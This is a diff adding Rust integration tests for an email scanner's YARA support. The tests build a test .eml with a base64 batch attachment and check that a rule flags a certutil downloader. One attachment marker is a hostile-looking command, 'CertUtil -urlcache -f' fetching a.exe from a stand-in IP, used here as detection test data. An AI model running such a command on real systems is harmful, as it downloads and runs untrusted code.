@@ -433,3 +433,106 @@ fn redis_store_end_to_end_and_outage() {
         "offline signals still flag the typosquat"
     );
 }
+
+/// A message with one attachment carrying `marker`.
+fn message_with_attachment(dir: &Path, marker: &str) -> PathBuf {
+    let p = dir.join("order.eml");
+    let b64 = {
+        // Tiny base64 so the test needs no extra dependency.
+        const T: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+        let data = format!("@echo off\r\n{marker}\r\n");
+        let mut out = String::new();
+        for c in data.as_bytes().chunks(3) {
+            let n = (u32::from(c[0]) << 16)
+                | (u32::from(*c.get(1).unwrap_or(&0)) << 8)
+                | u32::from(*c.get(2).unwrap_or(&0));
+            for i in 0..4 {
+                if i <= c.len() {
+                    out.push(T[(n >> (18 - 6 * i) & 63) as usize] as char);
+                } else {
+                    out.push('=');
+                }
+            }
+        }
+        out
+    };
+    std::fs::write(
+        &p,
+        format!(
+            "From: Orders <orders@supplier.example>\r\nTo: ap@northwind.example\r\nSubject: Order 5521\r\nDate: Thu, 26 Nov 2026 08:00:00 +0000\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b\"\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nOrder attached.\r\n--b\r\nContent-Type: text/plain; name=\"order.txt\"\r\nContent-Disposition: attachment; filename=\"order.txt\"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64}\r\n--b--\r\n"
+        ),
+    )
+    .expect("write eml");
+    p
+}
+
+#[cfg(not(feature = "yara"))]
+#[test]
+fn yara_rules_in_a_build_without_yara_is_a_clear_error() {
+    let d = tmp("noyara");
+    std::fs::write(d.join("r.yar"), "rule x { condition: true }").expect("rule");
+    let cfg = d.join("outwork.toml");
+    std::fs::write(
+        &cfg,
+        format!(
+            "[inspect]\nyara_rules = \"{}\"\n",
+            d.join("r.yar").display()
+        ),
+    )
+    .expect("cfg");
+    let eml = message_with_attachment(&d, "hello");
+    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
+    assert_eq!(o.status.code(), Some(2), "{}", text(&o.stdout));
+    assert!(
+        text(&o.stderr).contains("--features yara"),
+        "{}",
+        text(&o.stderr)
+    );
+}
+
+#[cfg(feature = "yara")]
+#[test]
+fn yara_rule_fires_a_symbol_named_after_it() {
+    let d = tmp("yara");
+    let rules = d.join("rules");
+    std::fs::create_dir_all(&rules).expect("mkdir");
+    std::fs::write(
+        rules.join("droppers.yar"),
+        "rule Cmd_Downloader : dropper {\n  meta:\n    score = 7\n  strings:\n    $a = \"certutil -urlcache\" nocase\n  condition:\n    $a\n}\n",
+    )
+    .expect("rule");
+    let cfg = d.join("outwork.toml");
+    std::fs::write(
+        &cfg,
+        format!("[inspect]\nyara_rules = \"{}\"\n", rules.display()),
+    )
+    .expect("cfg");
+    let eml = message_with_attachment(&d, "CertUtil -urlcache -f http://203.0.113.9/a.exe a.exe");
+    let o = run(bin()
+        .args(["scan", "-q", "-f", "jsonl", "--no-progress", "--config"])
+        .arg(&cfg)
+        .arg(&eml));
+    let v: serde_json::Value = serde_json::from_str(text(&o.stdout).trim()).expect("one json line");
+    let sym = v["symbols"]
+        .as_array()
+        .expect("symbols")
+        .iter()
+        .find(|s| s["name"] == "YARA_CMD_DOWNLOADER")
+        .unwrap_or_else(|| panic!("no YARA symbol: {v}"));
+    assert_eq!(sym["score"], 7.0);
+    let ev = sym["evidence"][0].as_str().unwrap_or("");
+    assert!(
+        ev.contains("order.txt") && ev.contains("droppers:Cmd_Downloader [dropper]"),
+        "{ev}"
+    );
+
+    // A rule that does not compile stops the scan with the file and line.
+    std::fs::write(rules.join("broken.yar"), "rule b {\n condition:\n  $x\n}\n").expect("rule");
+    let o = run(bin().args(["scan", "-q", "--config"]).arg(&cfg).arg(&eml));
+    assert_eq!(o.status.code(), Some(2));
+    assert!(
+        text(&o.stderr).contains("broken.yar"),
+        "{}",
+        text(&o.stderr)
+    );
+}
